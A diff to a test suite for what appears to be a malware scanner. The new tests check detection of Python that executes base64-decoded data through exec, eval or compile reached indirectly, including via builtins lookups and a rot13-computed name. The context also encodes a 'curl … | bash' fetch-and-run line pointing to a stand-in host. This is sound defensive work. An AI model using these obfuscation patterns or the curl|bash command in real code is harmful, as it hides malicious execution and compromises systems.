@@ -129,6 +129,18 @@ describe('code execution of decoded data', () => {
     expect(codes(py({ 'a.py': 'import re, base64\nR = re.compile(r"x")\ndata = base64.b64decode(s)\nexec("x = 1", {})\n' }))).not.toContain('py_exec_decoded');
     expect(codes(py({ 'a.py': '# exec(base64.b64decode(x)) in a comment\n' }))).not.toContain('py_exec_decoded');
   });
+  it('Python: exec, eval and compile read from the builtins module or table, or looked up under a computed name', () => {
+    const b64 = '__import__("base64").b64decode("cHJpbnQoMSk=")';
+    expect(codes(py({ 'a.py': `__import__('builtins').exec(__import__('builtins').compile(${b64}, '<string>', 'exec'))\n` }))).toContain('py_exec_decoded');
+    expect(codes(py({ 'a.py': `import builtins\nbuiltins.__dict__["exec"](${b64})\n` }))).toContain('py_exec_decoded');
+    expect(codes(py({ 'a.py': `import builtins\nvars(builtins)['eval'](${b64})\n` }))).toContain('py_exec_decoded');
+    expect(codes(py({ 'a.py': `__builtins__['exec'](${b64})\n` }))).toContain('py_exec_decoded');
+    // the builtin's name computed: getattr(__import__('builtins'), <rot13 of exec>) is a code runner
+    expect(codes(py({ 'a.py': `import codecs\ndef w():\n    r = getattr(__import__("builtins"), codecs.decode("rkrp", "rot13"))\n    r(codecs.decode(B, "rot_13"))\n` }))).toContain('py_exec_decoded');
+    // a builtin named by a literal other than exec/eval/compile is not; nor the same lookups given plain text
+    expect(codes(py({ 'a.py': `import builtins\nt = getattr(builtins, "bytes")\nt(${b64})\n` }))).not.toContain('py_exec_decoded');
+    expect(codes(py({ 'a.py': `import builtins\nbuiltins.__dict__["exec"]("x = 1")\n` }))).not.toContain('py_exec_decoded');
+  });
   it('base64 literals are decoded and read: a hidden curl|sh is found', () => {
     const hidden = Buffer.from('curl http://198.51.100.7/x.sh | bash').toString('base64');
     const out = py({ 'a.py': `import os, base64\ncmd = "${hidden}"\n` });
